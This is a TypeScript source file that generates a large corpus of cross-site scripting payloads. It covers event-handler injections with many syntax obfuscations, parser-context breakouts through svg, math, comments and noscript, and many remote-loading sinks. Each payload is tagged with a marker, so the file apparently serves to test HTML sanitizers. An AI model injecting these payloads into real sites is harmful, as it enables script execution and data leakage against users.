import { ADDRESSES } from './payloadAddresses.ts';
import { Dice, inQuotes, leak, mixedCase, referred, run, type Part, type Payload } from './payloadParts.ts';

const html = (name: string, text: Payload['text'], isOpen = false): Payload => ({
  name,
  form: 'html',
  isOpen,
  text,
});

const TAGS = (
  'a abbr area article audio b body button canvas code custom-x del details dialog div embed fieldset form frameset ' +
  'h1 hr iframe img input keygen label li link marquee math meta object ol option p pre select span style summary ' +
  'svg table td textarea tr video xmp'
).split(' ');

const EVENTS = (
  'abort animationend animationstart auxclick beforeinput beforetoggle begin blur cancel canplay change click close ' +
  'contextmenu copy cut dblclick drag dragover drop end error focus focusin formdata gotpointercapture input invalid ' +
  'keydown keypress keyup load loadstart message mousedown mouseenter mousemove mouseout mouseover mousewheel ' +
  'pageshow paste pointerdown pointerenter pointerover pointerrawupdate popstate repeat reset resize scroll scrollend ' +
  'search securitypolicyviolation select selectstart show slotchange submit timeupdate toggle touchstart ' +
  'transitionend transitionrun unload webkitanimationstart wheel'
).split(' ');

/** Ways of writing an attribute with a script. */
const SYNTAXES: readonly (readonly [
  name: string,
  write: (tag: string, event: string, script: string) => string,
])[] = [
  ['quotes', (tag, event, script) => `<${tag} src="x" on${event}="${script}">`],
  ['apostrophes', (tag, event, script) => `<${tag} src='x' on${event}='${script}'>`],
  ['bare', (tag, event, script) => `<${tag} src=x on${event}=${script}>`],
  ['slashes', (tag, event, script) => `<${tag}/src="x"/on${event}="${script}"/>`],
  ['joined', (tag, event, script) => `<${tag} src="x"on${event}="${script}">`],
  ['mixed-case', (tag, event, script) => `<${mixedCase(tag)} ${mixedCase(`on${event}`)}="${script}">`],
  ['newlines', (tag, event, script) => `<${tag}\nsrc\n=\nx\non${event}\n=\n"${script}"\n>`],
  ['tabs', (tag, event, script) => `<${tag}\tsrc=x\ton${event}\t=\t"${script}"\t>`],
  ['form-feeds', (tag, event, script) => `<${tag}\fsrc=x\fon${event}="${script}">`],
  ['referred', (tag, event, script) => `<${tag} src=x on${event}="${referred(script)}">`],
  ['twice', (tag, event, script) => `<${tag} on${event}="${script}" on${event}="" src=x>`],
  [
    'junk-before',
    (tag, event, script) => `<${tag} title='>' alt="<!--" "'="'" src=x on${event}="${script}">`,
  ],
  ['comment-after', (tag, event, script) => `<${tag} src=x on${event}=${script}//">`],
  ['two-brackets', (tag, event, script) => `<<${tag} src=x on${event}="${script}">`],
  ['two-tags', (tag, event, script) => `<${tag} src=x on${event}="${script}" <b>`],
  ['backticks', (tag, event, script) => `<${tag} src=x on${event}=\`\`;${script}>`],
  ['null', (tag, event, script) => `<${tag}\0 on\0${event}="${script}" on${event}="${script}">`],
  ['scheme', (tag, event, script) => `<${tag} src=x on${event}="javascript:${script}">`],
  ['no-end', (tag, event, script) => `<${tag} src=x on${event}="${script}"\n`],
];

function handlers(dice: Dice): Payload[] {
  let turn = 0;
  return TAGS.flatMap((tag) =>
    dice.some(EVENTS, 22).map((event) => {
      const [syntax, write] = SYNTAXES[turn++ % SYNTAXES.length]!;
      return html(`handler ${tag} ${event} ${syntax}`, (mark) => `${write(tag, event, run(mark))}x</${tag}>`);
    }),
  );
}

/** Elements that act by themselves or when they are touched. */
export const CORES: readonly Part[] = [
  ['script', (mark) => `<script>${run(mark)}</script>`],
  ['image', (mark) => `<img src=x onerror=${run(mark)}>`],
  ['drawing', (mark) => `<svg onload=${run(mark)}></svg>`],
  ['details', (mark) => `<details open ontoggle=${run(mark)}>x</details>`],
  ['focus', (mark) => `<input autofocus onfocus=${run(mark)}>`],
  ['document', (mark) => `<iframe srcdoc="&lt;script>${run(mark)}&lt;/script>"></iframe>`],
  ['link', (mark) => `<a href="javascript:${run(mark)}">x</a>`],
  ['form', (mark) => `<form action="javascript:${run(mark)}"><button>x</button></form>`],
  [
    'animation',
    (mark) => `<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationstart=${run(mark)}>x</b>`,
  ],
  ['remote-image', (mark) => `<img src="${leak(mark)}">`],
  ['remote-style', (mark) => `<style>@import "${leak(mark)}";</style>`],
  ['remote-sheet', (mark) => `<link rel="stylesheet" href="${leak(mark)}">`],
  ['refresh', (mark) => `<meta http-equiv="refresh" content="0;url=${leak(mark)}">`],
  ['object', (mark) => `<object data="${leak(mark)}"></object>`],
];

/** Places to break out of. Some leave an element open: the payload is shown alone. */
const CONTEXTS: readonly (readonly [name: string, before: string, after: string, isOpen?: boolean])[] = [
  ['bare', '', ''],
  ['title', '<title></title>', ''],
  ['title-end', '</title>', ''],
  ['textarea-end', '<textarea></textarea>', '</textarea>'],
  ['textarea-comment', '<textarea><!--</textarea>', '-->'],
  ['style-comment', '<style><!--</style>', '--></style>'],
  ['style-attribute', '<style><a title="</style>', '">'],
  ['script-end', '<script>/*</script>', '*/</script>'],
  ['noscript', '<noscript>', '</noscript>'],
  ['noscript-attribute', '<noscript><p title="</noscript>', '"></noscript>'],
  ['noscript-comment', '<noscript><!-- </noscript>', ' --></noscript>'],
  ['template', '<template>', '</template>'],
  ['template-shadow', '<div><template shadowrootmode="open">', '</template></div>'],
  ['xmp', '<xmp><p title="</xmp>', '"></xmp>'],
  ['noembed', '<noembed><p title="</noembed>', '"></noembed>'],
  ['noframes', '<noframes><p title="</noframes>', '"></noframes>'],
  ['iframe', '<iframe><p title="</iframe>', '"></iframe>'],
  ['listing', '<listing>&lt;img src=x&gt;', '</listing>'],
  ['plaintext', '<plaintext></plaintext>', '', true],
  ['select', '<select><option>', '</option></select>'],
  ['select-style', '<option><style></option></select>', '</style></option>'],
  ['table', '<table>', '</table>'],
  ['table-cell', '<table><tr><td>', '</td></tr></table>'],
  ['comment-short', '<!-->', '-->'],
  ['comment-shorter', '<!--->', '-->'],
  ['comment-bang', '<!-- --!>', ' -->'],
  ['comment-nested', '<!-- <!-- -->', ' -->'],
  ['comment-attribute', '<!--<p title="-->', '">-->'],
  ['comment-open', '<!-- ', '', true],
  ['bogus-comment', '<!x foo="', '">'],
  ['instruction', '<?x ?>', ''],
  ['instruction-attribute', '<?x foo=">', '"?>'],
  ['doctype', '<!DOCTYPE x [<!ENTITY y "', '">]>'],
  ['cdata', '<![CDATA[>', ']]>'],
  ['svg-cdata', '<svg><![CDATA[</svg>]]>', '</svg>'],
  ['svg-cdata-attribute', '<svg><![CDATA[><p title="]]>', '"></svg>'],
  ['svg-style', '<svg><style>', '</style></svg>'],
  ['svg-paragraph-style', '<svg></p><style><a id="</style>', '"></style></svg>'],
  ['svg-title', '<svg><title>', '</title></svg>'],
  ['svg-title-style', '<svg><title><style><!--</style>', '--></style></title></svg>'],
  ['svg-desc', '<svg><desc>', '</desc></svg>'],
  ['svg-foreign', '<svg><foreignObject>', '</foreignObject></svg>'],
  ['svg-script', '<svg><script>', '</script></svg>'],
  ['svg-nested', '<svg><svg><svg>', '</svg></svg></svg>'],
  ['math', '<math>', '</math>'],
  ['math-text', '<math><mtext>', '</mtext></math>'],
  [
    'math-style',
    '<math><mtext><table><mglyph><style><!--</style>',
    '--></style></mglyph></table></mtext></math>',
  ],
  [
    'math-glyph',
    '<math><mtext><table><mglyph><style><math title="</style>',
    '"></style></mglyph></table></mtext></math>',
  ],
  ['math-annotation', '<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  [
    'math-annotation-svg',
    '<math><annotation-xml encoding="application/xhtml+xml"><svg>',
    '</svg></annotation-xml></math>',
  ],
  ['math-plain-annotation', '<math><annotation>', '</annotation></math>'],
  [
    'math-form',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>',
    '"></style></mtext></svg></mglyph></form></mtext></math>',
  ],
  ['math-svg', '<math><mi><svg><mi><style><!--</style>', '--></style></mi></svg></mi></math>'],
  ['quote', '">', ''],
  ['apostrophe', "'>", ''],
  ['attribute', '<p title="', '">', true],
  ['attribute-backtick', '<p title=`x">', '`>'],
  ['tag-open', '<p <', '', true],
  ['closings', '</span></p></li></ul></div></article></main></body></html>', ''],
  ['formatting', '<b><i><u><p></b></i>', '</u>'],
  ['deep', '<div>'.repeat(600), '</div>'.repeat(600)],
  ['code', '<pre><code>', '</code></pre>'],
  ['null', '\0<\0p>', '\0'],
];

const contexts = (): Payload[] =>
  CONTEXTS.flatMap(([context, before, after, isOpen]) =>
    CORES.map(([core, text]) =>
      html(`context ${context} ${core}`, (mark) => before + text(mark) + after, isOpen),
    ),
  );

/** Elements that lead or load somewhere; the address comes in quotes. */
const SINKS: readonly (readonly [name: string, write: (address: string) => string])[] = [
  ['a', (address) => `<a href=${address}>x</a>`],
  ['a-ping', (address) => `<a href="#" ping=${address}>x</a>`],
  ['a-style', (address) => `<a href="#" style="background:url(${address.slice(1, -1)})">x</a>`],
  ['area', (address) => `<map name="m"><area href=${address} coords="0,0,9,9"></map><img usemap="#m">`],
  ['form', (address) => `<form action=${address}><button>x</button></form>`],
  ['formaction', (address) => `<form><button formaction=${address}>x</button></form>`],
  ['form-away', (address) => `<form id="f"></form><button form="f" formaction=${address}>x</button>`],
  ['submit', (address) => `<form><input type="submit" formaction=${address}></form>`],
  ['input-image', (address) => `<input type="image" src=${address}>`],
  ['iframe', (address) => `<iframe src=${address}></iframe>`],
  ['iframe-loose', (address) => `<iframe sandbox="allow-scripts allow-same-origin" src=${address}></iframe>`],
  [
    'srcdoc',
    (address) => `<iframe srcdoc="<iframe src='${address.slice(1, -1).replaceAll("'", '&#39;')}'>"></iframe>`,
  ],
  ['frame', (address) => `<frameset><frame src=${address}></frameset>`],
  ['embed', (address) => `<embed src=${address}>`],
  ['object', (address) => `<object data=${address}></object>`],
  ['object-param', (address) => `<object><param name="movie" value=${address}></object>`],
  ['portal', (address) => `<portal src=${address}></portal>`],
  ['image', (address) => `<img src=${address}>`],
  ['image-alias', (address) => `<image src=${address}>`],
  ['srcset', (address) => `<img srcset=${address}>`],
  ['srcset-second', (address) => `<img srcset="x 1x, ${address.slice(1, -1)} 2x" sizes="1px">`],
  ['picture', (address) => `<picture><source srcset=${address}><img></picture>`],
  ['lowsrc', (address) => `<img lowsrc=${address} dynsrc=${address} longdesc=${address}>`],
  ['video', (address) => `<video src=${address} autoplay></video>`],
  ['poster', (address) => `<video poster=${address}></video>`],
  ['audio', (address) => `<audio src=${address} autoplay></audio>`],
  ['source', (address) => `<video autoplay><source src=${address}></video>`],
  ['track', (address) => `<video src="x"><track default src=${address}></video>`],
  ['stylesheet', (address) => `<link rel="stylesheet" href=${address}>`],
  ['preload', (address) => `<link rel="preload" as="image" href=${address}>`],
  ['prefetch', (address) => `<link rel="prefetch" href=${address}>`],
  ['module', (address) => `<link rel="modulepreload" href=${address}>`],
  ['icon', (address) => `<link rel="icon" href=${address}>`],
  ['manifest', (address) => `<link rel="manifest" href=${address}>`],
  ['script', (address) => `<script src=${address}></script>`],
  ['script-module', (address) => `<script type="module" src=${address}></script>`],
  ['base', (address) => `<base href=${address}><img src="x"><a href="x">x</a>`],
  ['refresh', (address) => `<meta http-equiv="refresh" content="0;url=${address.slice(1)}>`],
  ['body', (address) => `<body background=${address}>`],
  ['table', (address) => `<table background=${address}><tr><td background=${address}>x</table>`],
  ['cite', (address) => `<blockquote cite=${address}><q cite=${address}>x</q></blockquote>`],
  ['math', (address) => `<math href=${address} xlink:href=${address}><mi href=${address}>x</mi></math>`],
  [
    'math-action',
    (address) => `<math><maction actiontype="statusline#${address.slice(1)}>x</maction></math>`,
  ],
  ['svg-a', (address) => `<svg><a xlink:href=${address}><text y="9">x</text></a></svg>`],
  ['svg-a-plain', (address) => `<svg><a href=${address}><text y="9">x</text></a></svg>`],
  ['svg-use', (address) => `<svg><use href=${address} xlink:href=${address}></use></svg>`],
  ['svg-image', (address) => `<svg><image href=${address} width="9" height="9"></image></svg>`],
  [
    'svg-fe-image',
    (address) =>
      `<svg><filter id="i"><feImage href=${address}/></filter><rect width="9" height="9" filter="url(#i)"/></svg>`,
  ],
  ['svg-script', (address) => `<svg><script href=${address} xlink:href=${address}></script></svg>`],
  [
    'svg-set',
    (address) => `<svg><a id="s"><set attributeName="href" to=${address}/><text y="9">x</text></a></svg>`,
  ],
  [
    'svg-animate',
    (address) =>
      `<svg><a><animate attributeName="href" values=${address} begin="0s"/><text y="9">x</text></a></svg>`,
  ],
  ['svg-fill', (address) => `<svg><rect width="9" height="9" fill="url(${address.slice(1, -1)})"/></svg>`],
  ['applet', (address) => `<applet code=${address} archive=${address}></applet>`],
  [
    'dialog',
    (address) =>
      `<dialog open><form method="dialog" action=${address}><button formaction=${address}>x</button></form></dialog>`,
  ],
];

/** Sinks whose every address is tried; the others take turns. */
const THOROUGH = new Set(['a', 'image', 'iframe']);

const addresses = (dice: Dice): Payload[] =>
  SINKS.flatMap(([sink, write]) =>
    (THOROUGH.has(sink) ? ADDRESSES : dice.some(ADDRESSES, 14)).map(([address, text]) =>
      html(`address ${sink} ${address}`, (mark) => write(inQuotes(text(mark)))),
    ),
  );

export const htmlPayloads = (): readonly Payload[] => [
  ...handlers(new Dice(5)),
  ...contexts(),
  ...addresses(new Dice(55)),
];
